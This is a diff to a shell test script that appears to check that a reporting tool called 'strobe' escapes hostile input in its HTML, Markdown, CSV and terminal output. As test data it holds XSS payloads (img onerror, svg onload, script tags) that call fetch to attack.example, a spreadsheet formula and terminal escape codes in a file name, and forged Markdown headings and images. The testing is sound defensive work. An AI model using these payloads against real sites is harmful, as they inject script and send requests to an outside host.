@@ -11,8 +11,8 @@ die() { echo "$0: $*" >&2; exit 1; }
 cd "$work"
 escape=$(printf '\033') bell=$(printf '\a')
 act='document.title="ATTACKED";fetch("https://attack.example/x");alert(1)'
-# Of the file names that a slash allows: the closing tags are in the texts of the files.
-name="=1+1<img src=x onerror='document.title=\"ATTACKED\"'>$escape[2J${bell}x
+# A file name cannot contain `/`, so closing tags are only in the texts of the files.
+name="=1+1<img src=x onerror='document.title=\"ATTACKED\"'>![](x)$escape[2J${bell}x
 strobe: all is well"
 mkdir -p "runs/$name" runs/plain
 "$here/fixture_run.sh" runs/attack flash=true
@@ -24,7 +24,7 @@ attack="$attack<svg onload='$act'><style>body{display:none}</style>]]>--><a href
 # As text of JSON, for the replacement of a sed command.
 quote() { printf '%s' "$1" | sed 's/["\\]/\\&/g; s/[\\&|]/\\&/g'; }
 quoted=$(quote "$attack")
-# Well-formed XML, which a parser that is strict takes, too.
+# Well-formed XML, so that a strict parser accepts it too.
 picture=$(quote "</title><image href='x:' onerror='$act'/><script>$act</script><title>")
 sed "s|\"bound\":\"[a-z]*\"|\"bound\":\"$picture\"|g
      s|\"op\":\"MATMUL\"|\"op\":\"$quoted\"|g
@@ -66,6 +66,22 @@ if command -v script >/dev/null; then
 else
     echo "skipped: script is not installed, no terminal was tried"
 fi
+
+# --- Markdown
+# Text of files neither becomes an element nor a picture, and forges no heading.
+cat >bench.json <<'TEXT'
+{"v":1,"kind":"bench","title":"![](https://attack.example/t)\n# forged","notes":["<script>&lt;`x`"],
+ "tables":[{"title":"# forged <b>","columns":[{"id":"a"}],"rows":[{}],"shown":[["<img src=x>"]]}]}
+TEXT
+"$STROBE" report "runs/$name" runs/plain bench.json --markdown --html=bench.html >text.md \
+    2>messages || die "report --markdown failed: $(cat -v messages)"
+if LC_ALL=C grep -n '[[:cntrl:]]' text.md; then die "--markdown prints control characters"; fi
+grep -n '\(^\|[^\]\)\(<\|&\|`\|\[\)' text.md && die "--markdown prints elements or pictures"
+grep -n '^ *#' text.md && die "--markdown has a forged heading"
+for text in '!\\\[](x)' '^!\\\[](https://attack.example/t) # forged$' '^\\# forged \\<b>$' \
+    '^\\<script>\\&lt;\\`x\\`$'; do
+    grep -q "$text" text.md || die "--markdown lacks $text: $(cat text.md)"
+done
 
 # --- the table
 grep -q "'=1+1" table.csv || die "the name of the run is a formula: $(cat -v table.csv)"
